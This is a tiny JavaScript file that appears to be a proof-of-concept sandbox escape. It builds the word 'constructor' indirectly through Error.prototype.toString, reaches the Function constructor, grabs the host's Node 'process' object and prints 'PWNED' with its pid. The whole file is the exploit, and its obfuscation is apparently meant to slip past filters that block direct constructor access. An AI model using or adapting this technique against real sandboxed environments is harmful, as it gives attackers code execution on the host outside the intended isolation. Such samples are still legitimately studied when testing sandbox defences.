'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
const text = new Error('')['toString'];
console.log('PWNED', fn[text.apply({ name: w, message: '' }, [])]('return process')().pid);
